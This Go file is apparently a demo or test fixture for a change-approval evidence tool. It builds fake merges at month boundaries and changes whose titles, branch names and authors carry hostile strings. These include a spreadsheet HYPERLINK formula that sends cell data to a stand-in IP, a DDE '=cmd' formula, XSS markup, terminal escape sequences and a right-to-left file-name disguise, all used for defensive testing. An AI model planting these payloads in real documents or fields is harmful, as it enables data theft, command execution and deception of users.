package demo

import "github.com/evidencepack/evidence/internal/demo/github"

// edgeStory is about the edges of the month in Japan, and about texts that are
// not meant for readers.
func (h *hub) edgeStory() {
	edge := func(key, merged string) *change {
		c := h.propose(h.payments, key, merged, h.dev2, "月次の値を更新する", "docs/values.md")
		c.MergedBy = h.dev3
		return c
	}
	edge("second before the month", "2026-09-30 23:59:59")
	first := unapproved("対象期間の最初の秒に、承認なしにマージされた。", "It was merged without an approval in the first second of the period.", "no_independent_approval")
	edge("first second of the month", "2026-10-01 00:00:00").expect(first...)
	last := unapproved("対象期間の最後の秒に、承認なしにマージされた。", "It was merged without an approval in the last second of the period.", "no_independent_approval")
	edge("last second of the month", "2026-10-31 23:59:59").expect(last...)
	edge("second after the month", "2026-11-01 00:00:00")

	h.hostile()
}

// hostile texts stand where people write what they like.
func (h *hub) hostile() {
	texts := []struct{ key, merged, title string }{
		{"formula", "2026-10-28 14:00:00", `=HYPERLINK("http://203.0.113.99/?"&A1,"開く")`},
		{"markup", "2026-10-28 14:30:00", `<script>alert("evidence")</script><img src=x onerror=alert(1)>`},
		{"escapes", "2026-10-28 15:00:00", "表示を直す \x1b[31mPASS\x1b[0m \x1b]8;;http://203.0.113.99\x07"},
		{"right to left", "2026-10-28 15:30:00", "承認済み \u202egnp.exe\u202c を取り込む"},
		{"long", "2026-10-28 16:00:00", longTitle},
	}
	for _, x := range texts {
		c := h.propose(h.payments, "hostile "+x.key, x.merged, h.dev5, x.title, "docs/notes.md")
		c.Head, c.MergedBy = "x/=cmd|'-C calc'!A0", h.dev1
		c.Body, c.Named = "", nil
		c.Comment(h.reviewBot, c.Merged, x.title)
		c.expect(unapproved("承認なしにマージされた。件名には、表計算、端末又は表示を欺く文字列を含む。",
			"It was merged without an approval. Its title holds text meant to deceive a spreadsheet, a terminal or a reader.", "no_independent_approval")...)
		c.expect(exception("CHG-04", "チケットの記載も紐付けもない。", "It names no ticket and is linked to none.", "no_ticket_named"))
	}
	stranger := github.Person(`<b>=1+1</b>`)
	c := h.change(h.payments, "hostile login", "2026-10-28 16:30:00", h.dev5, h.dev1, "通知の宛先を整理する", "docs/notes.md")
	c.Commits[0].By(github.Signature{Name: "=1+1 \x1b[31m", Email: "stranger@example.com", Account: stranger})
	c.Review(stranger, c.Merged.Add(-reviewBefore), github.Approved, "")
}

var longTitle = func() string {
	s := "長い件名"
	for len(s) < 700 {
		s += " とても長い説明"
	}
	return s
}()
